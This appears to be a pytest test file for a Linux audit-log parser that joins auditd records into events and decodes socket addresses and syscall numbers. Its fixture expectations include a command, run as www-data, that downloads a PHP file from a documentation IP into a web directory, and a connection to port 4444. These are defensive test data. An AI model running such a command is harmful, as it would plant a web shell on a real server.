"""Audit records joined with their siblings: whatever the batches, one record is one event; borders cost fields, never records."""

from __future__ import annotations

from pathlib import Path

import pytest

from collectors.parsers._audit_join import peer, syscall_name
from tests.collectors.parsers.lines import events

LINES = (Path(__file__).parents[2] / "data" / "parsers" / "linux_audit" / "joined.log").read_text(encoding="utf-8").splitlines()


def test_the_execve_record_names_program_user_and_directory():
    event = events(LINES)[1][1]
    assert (event["process.executable"], event["process.working_directory"], event["user.name"], event["process.parent.pid"]) == (
        "/usr/bin/curl", "/var/www/html/tmp", "www-data", 3001,
    )  # fmt: skip
    assert event["process.command_line"] == "curl -o ../cache/m.php http://203.0.113.9/m"


def test_wherever_a_batch_is_cut_every_record_is_one_event_with_its_own_fields():
    whole = [event for _, event in events(LINES)]
    for cut in range(len(LINES) + 1):
        parts = [event for _, event in [*events(LINES[:cut]), *events(LINES[cut:])]]
        assert [e["message"] for e in parts] == LINES
        assert all(set(part) <= set(full) for part, full in zip(parts, whole, strict=True))


def test_an_execve_record_alone_still_starts_a_process():
    event = events(LINES[1:2])[0][1]
    assert (event["process.executable"], event["event.type"], event.get("user.name")) == ("curl", ["start"], None)


def test_records_of_other_events_and_hosts_are_not_joined():
    other = LINES[0].replace(":7101)", ":7999)").replace("curl", "wget")
    elsewhere = "node=web02 " + LINES[0].replace("curl", "wget")
    assert events([other, LINES[1]])[1][1]["process.executable"] == "curl"
    assert events([elsewhere, LINES[1]])[1][1]["process.executable"] == "curl"


def test_the_key_of_the_audit_rule_stands_on_one_record_of_an_event():
    keyed = [event for _, event in events(LINES[:5]) if "auditd.log.key" in event]
    assert [event["auditd.log.record_type"] for event in keyed] == ["SYSCALL"]


def test_order_of_records_does_not_matter():
    assert [events([LINES[1], LINES[2], LINES[0]])[0]] == [events(LINES[:3])[1]]


@pytest.mark.parametrize(
    ("saddr", "expected"),
    [
        pytest.param("0200115CCB0071090000000000000000", ("203.0.113.9", 4444), id="IPv4"),
        pytest.param("0A0001BB0000000020010DB800000000000000000000006600000000", ("2001:db8::66", 443), id="IPv6"),
        pytest.param("0A0001BB0000000000000000000000000000FFFFC000020100000000", ("192.0.2.1", 443), id="IPv4 in IPv6"),
        pytest.param("01002F746D702F736F636B00", (None, None), id="a local socket has no address"),
        pytest.param("0200", (None, None), id="cut short"),
        pytest.param("xyz", (None, None), id="no hexadecimal text"),
    ],
)
def test_addresses_of_sockets(saddr: str, expected: tuple[str | None, int | None]):
    assert peer(saddr) == expected


def test_calls_are_named_by_architecture():
    assert [syscall_name(a, n) for a, n in (("c000003e", "59"), ("c00000b7", "221"), ("c000003e", "99999"), ("40000003", "11"))] == [
        "execve", "execve", None, None,
    ]  # fmt: skip
